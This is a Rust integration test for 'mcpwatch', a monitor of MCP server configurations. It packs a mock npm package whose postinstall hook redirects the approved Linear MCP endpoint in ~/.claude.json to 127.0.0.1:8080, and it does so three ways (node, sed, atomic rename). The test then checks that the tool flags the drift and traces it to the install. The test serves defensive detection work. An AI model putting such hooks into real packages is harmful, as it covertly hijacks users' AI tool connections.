//! The attack itself: a real `npm install` whose `postinstall` redirects an approved server.
#![allow(clippy::disallowed_methods, reason = "tests and benches may touch the machine")]
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stderr,
    reason = "a test fails loudly, and says why it did not run"
)]

mod support;

use mcpwatch::host::accounts::own_uid;
use serde_json::Value;
use std::fs;
use std::process::Command;
use support::{Scratch, text};

const HOME: &str = r#"{
  "numStartups": 12,
  "mcpServers": {
    "linear": {
      "type": "http",
      "url": "https://mcp.linear.app/mcp"
    }
  }
}"#;

/// Ways in which a hook writes a file.
const HOOKS: [(&str, &str); 3] = [
    (
        "a plain write",
        r#"node -e "const f=process.env.HOME+'/.claude.json',s=require('fs');s.writeFileSync(f,s.readFileSync(f,'utf8').replace('mcp.linear.app','127.0.0.1:8080'))""#,
    ),
    ("sed", "sed -i s/mcp.linear.app/127.0.0.1:8080/ $HOME/.claude.json"),
    (
        "an atomic rename",
        "sed s/mcp.linear.app/127.0.0.1:8080/ $HOME/.claude.json > $HOME/.x && mv $HOME/.x $HOME/.claude.json",
    ),
];

fn npm(scratch: &Scratch, directory: &str, arguments: &[&str]) {
    let output = Command::new("npm")
        .args(arguments)
        .current_dir(scratch.path(directory))
        .env("HOME", scratch.home())
        .env("npm_config_update_notifier", "false")
        .env("npm_config_offline", "true")
        .output()
        .unwrap();
    assert!(output.status.success(), "npm {arguments:?}: {}{}", text(&output.stdout), text(&output.stderr));
}

#[test]
fn a_postinstall_that_redirects_a_server_is_caught_live_and_afterwards() {
    if Command::new("npm").arg("--version").output().is_err() {
        assert!(std::env::var_os("CI").is_none(), "CI must have npm");
        eprintln!("not run: npm is not here; install it with apt-get install npm");
        return;
    }
    for (how, hook) in HOOKS {
        let scratch = with_package(hook);
        let mut watch = scratch.watch(&[]);
        npm(&scratch, "victim", &["install", "--foreground-scripts", "../package/left-pat-6.6.6.tgz"]);
        watch.line_with(&["endpoint-host-changed", "linear", "critical"]);

        let events = scratch.events();
        let event = events.iter().find(|event| event["event"]["action"] == "endpoint-host-changed").unwrap();
        assert_eq!(event["mcpwatch"]["drift"]["expected"], "mcp.linear.app", "{how}");
        assert_eq!(event["mcpwatch"]["drift"]["observed"], "127.0.0.1");
        assert_eq!(event["url"]["domain"], "127.0.0.1");
        assert_eq!(event["mcpwatch"]["server"], Value::from("linear"));
        assert_eq!(watch.stop("TERM").0, Some(0));
        assert_eq!(
            scratch.drifts(),
            ["endpoint-host-changed linear", "endpoint-port-changed linear", "endpoint-suspicious linear"]
        );
    }
    // One after the other: where two installs run nobody can tell which it was.
    where_nobody_tells_who_wrote_the_hook_at_work_is_possible();
}

/// A home that is approved, and a package with that hook, ready to be installed.
fn with_package(hook: &str) -> Scratch {
    let scratch = Scratch::new();
    scratch.write(".claude.json", HOME);
    scratch.expect(0, &["baseline", "capture"]);
    let package =
        serde_json::json!({"name": "left-pat", "version": "6.6.6", "scripts": {"postinstall": hook}});
    for (directory, manifest) in [("package", package.to_string()), ("victim", "{}".to_owned())] {
        fs::create_dir(scratch.path(directory)).unwrap();
        fs::write(scratch.path(directory).join("package.json"), manifest).unwrap();
    }
    npm(&scratch, "package", &["pack", "--silent"]);
    scratch
}

fn where_nobody_tells_who_wrote_the_hook_at_work_is_possible() {
    // It goes on until it was told, for half a minute at most.
    let hook = "sed -i s/mcp.linear.app/127.0.0.1:8080/ $HOME/.claude.json; \
                for i in $(seq 300); do [ -e $HOME/told ] || sleep 0.1; done";
    let scratch = with_package(hook);
    let plain = scratch.command();
    let mut command = Command::new("setpriv");
    command.args(["--bounding-set=-sys_admin", "--inh-caps=-sys_admin", "--"]).arg(plain.get_program());
    command.args(plain.get_args()).args(["watch", "--format", "json"]);
    command.env_clear().envs(plain.get_envs().filter_map(|(name, value)| Some((name, value?))));
    if own_uid() != 0 {
        command = scratch.command();
        command.args(["watch", "--format", "json"]);
    }
    let mut watch = scratch.start(command);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            npm(&scratch, "victim", &["install", "--foreground-scripts", "../package/left-pat-6.6.6.tgz"])
        });
        let told =
            watch.event_where("of the drift", |event| event["event"]["action"] == "endpoint-host-changed");
        scratch.write("told", "");
        let who = &told["mcpwatch"]["provenance"];
        assert_eq!(
            (&who["confidence"], &who["method"]),
            (&Value::from("unknown"), &Value::from("sample")),
            "{who}"
        );
        assert_eq!(who["install"]["confidence"], "possible");
        assert_eq!(who["install"]["package"]["name"], "left-pat");
        assert_eq!(who["install"]["lifecycle"], "postinstall");
    });
    assert_eq!(watch.stop("TERM").0, Some(0));
}
